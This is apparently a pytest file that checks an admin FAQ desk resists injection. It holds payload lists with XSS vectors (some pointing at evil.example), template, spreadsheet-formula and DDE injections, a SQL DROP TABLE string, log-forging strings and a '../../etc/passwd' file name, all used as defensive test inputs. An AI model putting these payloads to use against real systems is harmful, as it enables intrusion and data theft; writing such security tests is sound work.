"""Hostile words through questions, answers, file names and filters: nothing runs, nothing calculates, no log line."""

from __future__ import annotations

import csv
from html import unescape
from io import BytesIO, StringIO
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser

from tests.admin.answers.conftest import Desk
from tests.admin.answers.test_lists import upload
from tests.admin.answers.test_unanswered import ask

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "`-alert(1)-`",
    "javascript:alert(1)",
    'https://a.example/" onclick="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% import os %}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>-->alert(1)",
    "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    "{city} {0} {x.__class__}",
    "%s %n %x",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "＋1",
    " =1+1",
    "'=1+1",
    '=IMPORTXML("http://evil.example")',
)
LOGS = (
    "x\n2026-11-28 12:00:00 INFO admin: signed in",
    "x\r\nSet-Cookie: madoguchi_staff=evil",
    "x\u2028INFO forged",
    "\x1b[31mred\x1b[0m",
    "a\x00b",
    "'; DROP TABLE faq_entry; --",
    "100% _ \\ %",
    "\u202eevil",
)
HOSTILE = (*SCRIPTS, *FORMULAS, *LOGS)


@pytest.mark.browser
@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_nothing_runs_in_a_browser(desk: Desk, browser: Browser) -> None:
    assert len(HOSTILE) >= 40
    editor = desk.sign_in("editor")
    paths = []
    for words in HOSTILE:
        editor.goes_to("/admin/faq/new")
        fields = {"question_ja": words, "answer_ja": words, "aliases_ja": words, "category": words[:60]}
        assert editor.sends("/admin/faq/new", department="residents", **fields).status == 200, words
        paths.append(editor.path)
    ask(desk, *HOSTILE)
    context = browser.new_context(base_url=desk.house.url)
    context.add_cookies([{"name": k, "value": v, "url": desk.house.url} for k, v in editor.cookies.items()])
    page, ran = context.new_page(), []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: ran.append(str(error)))
    page.on("console", lambda message: ran.append(message.text) if message.type == "error" else None)
    page.on("request", lambda request: ran.append(request.url) if "evil" in request.url.split("?")[0] else None)
    pages = [f"{path}{rest}" for path in paths[:30] for rest in ("", "/edit")]
    searches = [f"/admin/faq/why?q={quote(words)}" for words in SCRIPTS[:12]]
    for address in ("/admin/faq/", "/admin/faq/?page=2", "/admin/unanswered/", *searches, *pages):
        page.goto(address)
        assert page.locator("main script, main iframe, main base, main img").count() == 0, address
    context.close()
    assert ran == []


def test_nothing_calculates_and_all_of_it_comes_back(desk: Desk) -> None:
    editor = desk.sign_in("editor")
    for words in FORMULAS:
        editor.goes_to("/admin/faq/new")
        editor.sends("/admin/faq/new", department="residents", question_ja=words, answer_ja=words, category=words)
    text = editor.asks("GET", "/admin/faq/export.csv?department=residents&state=draft").text
    rows = list(csv.reader(StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    signs = ("=", "+", "-", "@", "＝", "＋")
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(signs)]
    with editor.open("GET", "/admin/faq/export.xlsx?department=residents&state=draft") as response:
        sheet = load_workbook(BytesIO(response.read())).worksheets[0]
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    again = upload(editor, text.encode())
    assert f"変わらないもの{len(FORMULAS)}件" in again.page.text


@pytest.mark.parametrize("name", ["../../etc/passwd", "x\u2028.csv", "<img src=x>.csv", "=1.csv", "a" * 300 + ".csv"])
def test_a_file_s_name_is_nobody_s_words(desk: Desk, name: str, caplog: pytest.LogCaptureFixture) -> None:
    editor = desk.sign_in("editor")
    content = "番号,質問,答え,担当課\nresidents-9,何時。,五時。,residents".encode()
    with caplog.at_level("INFO"):
        upload(editor, content, quote(name, safe="<>/=. "))
    assert "<img src=x>" not in unescape(editor.goes_to(desk.path("residents-9")).text)
    assert name not in caplog.text


def test_no_words_are_in_the_log(desk: Desk, caplog: pytest.LogCaptureFixture) -> None:
    editor = desk.sign_in("editor")
    with caplog.at_level("DEBUG", logger="bot"):
        for words in LOGS:
            editor.goes_to("/admin/faq/new")
            editor.sends("/admin/faq/new", department="residents", question_ja=words, answer_ja="秘密のことば")
    ours = [record.getMessage() for record in caplog.records if record.name.startswith(("bot", "admin", "knowledge"))]
    assert not [line for line in ours if "秘密のことば" in line or "forged" in line or "\n" in line]
